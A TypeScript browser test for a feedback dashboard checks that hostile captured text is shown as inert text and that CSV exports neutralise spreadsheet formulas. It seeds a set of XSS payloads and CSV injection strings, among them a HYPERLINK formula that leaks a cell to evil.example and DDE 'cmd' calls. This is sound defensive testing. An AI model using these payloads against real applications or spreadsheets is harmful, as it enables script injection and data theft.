import { readFile } from 'node:fs/promises';
import type { Browser, BrowserContext, Dialog, Download, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { CaptureInput } from '#shared/capture';
import { csvRecords, parseCsv } from './harness/csv';
import { signInToDashboard } from './harness/dashboard-session';
import { chromiumTab } from './harness/chromium';
import { daysAgo, frictionCapture, launchDashboardBrowser, postCaptures, requireDashboardBuild } from './harness/dashboard-fixtures';
import { startSnagServer, type RunningSnagServer } from './harness/snag-server';

// Chromium only: Puppeteer bypasses CSP and reports downloads over CDP alone, which Firefox does not speak.
// Captured text is whatever was on a customer's screen, so treat it as hostile: payloads in every
// field a capture has, then every view of the dashboard, the digest and the exports. The page's
// CSP is bypassed here on purpose: it is the second line of defence, and this test checks the
// first (everything rendered as text, links only http(s), spreadsheet formulas neutralised).

const XSS = {
  img: '<img src=x onerror=window.__xss=1>',
  script: '<script>window.__xss=1</script>',
  svg: '"><svg onload=window.__xss=1>',
  jsUrl: 'javascript:window.__xss=1',
  alert: "<img src=x onerror=alert('xss')>",
  iframe: '<iframe src="javascript:window.__xss=1"></iframe>',
  svgShort: '<svg/onload=window.__xss=1>',
} as const;

const pinned = {
  selector: `"><img src=x onerror=window.__xss=1>`,
  xpath: '/html/body/main/button[1]',
  tagName: 'button',
  text: XSS.img,
  role: 'button',
  name: XSS.svg,
  viewportBox: { x: 10, y: 20, width: 100, height: 30 },
  documentBox: { x: 10, y: 20, width: 100, height: 30 },
};

interface Seeded {
  html: CaptureInput;
  quote: CaptureInput;
  formulas: CaptureInput;
}

function seedCaptures(now: Date): Seeded {
  return {
    html: frictionCapture({
      comment: XSS.img,
      page: { url: `https://app.example.com/onboarding/${encodeURIComponent(XSS.svg)}?next=${encodeURIComponent(XSS.jsUrl)}`, title: XSS.svg },
      tags: [XSS.img, '"><svg onload=alert(1)>'],
      customer: XSS.img,
      severity: 'high',
      category: 'bug',
      flow: { name: XSS.img, step: XSS.svg },
      element: pinned,
      createdAt: daysAgo(1, now),
    }),
    quote: frictionCapture({
      kind: 'clip',
      quote: XSS.script,
      quoteContext: { prefix: XSS.img, suffix: XSS.svg },
      textFragmentUrl: XSS.jsUrl,
      page: { url: XSS.jsUrl, title: XSS.alert },
      comment: XSS.iframe,
      tags: ['xss'],
      customer: XSS.svgShort,
      flow: { name: XSS.img, step: XSS.script },
      createdAt: daysAgo(2, now),
    }),
    formulas: frictionCapture({
      comment: '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
      customer: "@SUM(1+1)*cmd|' /C calc'!A0",
      page: { url: 'https://app.example.com/reports/1', title: "-2+3+cmd|' /C calc'!A0" },
      tags: ['=1+2'],
      flow: { name: '+onboarding', step: '-step' },
      createdAt: daysAgo(3, now),
    }),
  };
}

/** What a successful injection would leave behind in the page. */
async function injectionTraces(page: Page): Promise<string[]> {
  return page.evaluate(() => {
    const traces: string[] = [];
    if (Reflect.get(window, '__xss') !== undefined) traces.push('window.__xss was set');
    for (const element of document.querySelectorAll('*')) {
      for (const attribute of element.attributes) {
        if (/^on/i.test(attribute.name)) traces.push(`<${element.localName} ${attribute.name}="${attribute.value}">`);
      }
    }
    for (const script of document.querySelectorAll('script')) {
      if (!script.src) traces.push(`inline <script>: ${(script.textContent ?? '').slice(0, 80)}`);
    }
    for (const frame of document.querySelectorAll('iframe, object, embed, frame')) traces.push(`<${frame.localName}>`);
    for (const image of document.querySelectorAll('img')) {
      if (!/^(blob:|data:image\/)/.test(image.src) && !image.src.startsWith(location.origin)) traces.push(`<img src="${image.getAttribute('src')}">`);
    }
    for (const link of document.querySelectorAll('a[href], area[href], form[action]')) {
      const raw = link.getAttribute('href') ?? link.getAttribute('action') ?? '';
      let protocol: string;
      try {
        protocol = new URL(raw, location.href).protocol;
      } catch {
        continue;
      }
      if (!['http:', 'https:', 'blob:', 'mailto:'].includes(protocol)) traces.push(`link to ${protocol} ${raw.slice(0, 80)}`);
    }
    return traces;
  });
}

async function bodyText(page: Page): Promise<string> {
  return page.evaluate(() => document.body.innerText);
}

describe('Chromium: hostile captured text never runs in the dashboard, digest or exports', () => {
  let server: RunningSnagServer;
  let browser: Browser;
  let context: BrowserContext;
  let page: Page;
  let seeded: Seeded;
  const dialogs: string[] = [];

  beforeAll(async () => {
    requireDashboardBuild();
    server = await startSnagServer();
    seeded = seedCaptures(new Date());
    await postCaptures(server.url, server.token, [seeded.html, seeded.quote, seeded.formulas]);
    const note = await fetch(`${server.url}/api/v1/captures/${seeded.html.id}/comments`, {
      method: 'POST',
      headers: { Authorization: `Bearer ${server.token}`, 'Content-Type': 'application/json' },
      body: JSON.stringify({ body: `${XSS.script} =cmd|' /C calc'!A0` }),
    });
    expect(note.status).toBe(201);

    browser = await launchDashboardBrowser();
    context = await browser.newContext({ viewport: { width: 1280, height: 800 }, bypassCSP: true });
    context.on('page', (opened) => opened.on('dialog', (dialog: Dialog) => void recordDialog(dialog)));
    page = await context.newPage();
    page.on('dialog', (dialog: Dialog) => void recordDialog(dialog));
    await signInToDashboard(chromiumTab(page), server);
  });

  async function recordDialog(dialog: Dialog): Promise<void> {
    dialogs.push(`${dialog.type()}: ${dialog.message()}`);
    await dialog.dismiss();
  }

  afterAll(async () => {
    await browser?.close();
    await server?.stop();
  });

  async function visit(hash: string, ready: string): Promise<void> {
    await page.goto(`${server.url}/${hash}`);
    await page.locator(ready).first().waitFor({ timeout: 30_000 });
    await page.waitForFunction(() => document.querySelector('[aria-busy="true"]') === null, undefined, { timeout: 30_000 });
  }

  async function expectClean(where: string, literals: readonly string[]): Promise<void> {
    expect(await injectionTraces(page), where).toEqual([]);
    expect(dialogs, where).toEqual([]);
    const text = await bodyText(page);
    for (const literal of literals) expect(text, `${where} shows ${literal} as text`).toContain(literal);
  }

  it('the feed shows payloads as text', async () => {
    await visit('#/', '[role="grid"] [role="row"][id^="capture-row-"]');
    await expectClean('feed', [XSS.img, XSS.iframe]);
  });

  it('each capture shows payloads as text, and never links a javascript: URL', async () => {
    await visit(`#/captures/${seeded.html.id}`, '#detail-title');
    await expectClean('detail (html payloads)', [XSS.img, XSS.svg, XSS.script]);
    await visit(`#/captures/${seeded.quote.id}`, '#detail-title');
    await expectClean('detail (quote)', [XSS.script, XSS.iframe, XSS.jsUrl, XSS.alert]);
    await visit(`#/captures/${seeded.formulas.id}`, '#detail-title');
    await expectClean('detail (formulas)', ["@SUM(1+1)*cmd|' /C calc'!A0"]);
  });

  it('insights show payloads as text', async () => {
    await visit('#/insights', 'table.hotspots tbody tr');
    await expectClean('hot spots', [XSS.img]);
    await visit('#/insights/onboarding', 'section.flow-friction');
    await expectClean('onboarding', [XSS.img, XSS.script]);
    await visit('#/insights/charts', '.bar-list li');
    await expectClean('charts', [XSS.img, XSS.svgShort]);
  });

  it('filters from a hostile link are shown as text', async () => {
    const query = new URLSearchParams({ tag: XSS.img, customer: XSS.svg, q: XSS.script });
    await visit(`#/insights?${query.toString()}`, '.insights-filters-list');
    await expectClean('insights with hostile filters', [XSS.img, XSS.svg, XSS.script]);
    await visit(`#/reports?${query.toString()}`, '.insights-filters-list');
    await expectClean('reports with hostile filters', [XSS.img]);
    await visit(`#/?${query.toString()}`, 'h1');
    expect(await injectionTraces(page)).toEqual([]);
  });

  it('the digest page escapes everything, and the Markdown cannot open a link or a tag', async () => {
    await visit('#/reports', '.headline-numbers');
    const [digest] = await Promise.all([context.waitForEvent('page'), page.getByRole('link', { name: /Open digest/ }).click()]);
    await digest.waitForLoadState();
    expect(await injectionTraces(digest)).toEqual([]);
    expect(await digest.evaluate(() => document.body.innerText)).toContain(XSS.img);
    await digest.close();

    const markdown = await downloaded(page.getByRole('link', { name: 'Download Markdown' }).click());
    expect(markdown).not.toMatch(/(?<!\\)<(img|script|svg|iframe)/i);
    expect(markdown).not.toMatch(/(?<!\\)\[[^\]]*(?<!\\)\]\((?!https?:)/);
    expect(dialogs).toEqual([]);
  });

  async function downloaded(click: Promise<void>): Promise<string> {
    const [download] = await Promise.all([page.waitForEvent('download'), click]);
    return readFile(await savedPath(download), 'utf8');
  }

  async function savedPath(download: Download): Promise<string> {
    const path = await download.path();
    if (path === null) throw new Error(`download failed: ${await download.failure()}`);
    return path;
  }

  it('the CSV export neutralises formulas in every cell, and the JSON keeps the text as data', async () => {
    await visit('#/reports', '.report-actions');
    const csv = await downloaded(page.getByRole('link', { name: 'Download CSV' }).click());
    const dangerous = parseCsv(csv)
      .flat()
      .filter((cell) => /^[=+\-@\t\r]/.test(cell));
    expect(dangerous).toEqual([]);
    const rows = csvRecords(csv);
    const formulas = rows.find((row) => row.id === seeded.formulas.id);
    expect(formulas).toMatchObject({
      comment: `'=HYPERLINK("http://evil.example/?leak="&A1,"click me")`,
      customer: `'@SUM(1+1)*cmd|' /C calc'!A0`,
      pageTitle: `'-2+3+cmd|' /C calc'!A0`,
      tags: `'=1+2`,
      flow: `'+onboarding`,
      step: `'-step`,
    });
    expect(rows.find((row) => row.id === seeded.html.id)?.comment).toBe(XSS.img);

    const json: unknown = JSON.parse(await downloaded(page.getByRole('link', { name: 'Download JSON' }).click()));
    if (!Array.isArray(json)) throw new Error('the JSON export is not an array');
    const html = json.find((item: unknown) => typeof item === 'object' && item !== null && 'id' in item && item.id === seeded.html.id);
    expect(html).toMatchObject({ comment: XSS.img, customer: XSS.img, page: { title: XSS.svg } });
    expect(await injectionTraces(page)).toEqual([]);
    expect(dialogs).toEqual([]);
  });

  it('would notice an injection (the checks above are not vacuous)', async () => {
    const control = await context.newPage();
    await control.goto(`${server.url}/#/`);
    await control.locator('h1').first().waitFor();
    await control.evaluate((html) => document.body.insertAdjacentHTML('beforeend', html), `${XSS.img}<a href="${XSS.jsUrl}">x</a>`);
    await expect.poll(() => control.evaluate(() => Reflect.get(window, '__xss'))).toBe(1);
    expect(await injectionTraces(control)).toEqual(
      expect.arrayContaining(['window.__xss was set', '<img onerror="window.__xss=1">', `link to javascript: ${XSS.jsUrl}`]),
    );
    await control.close();
  });
});
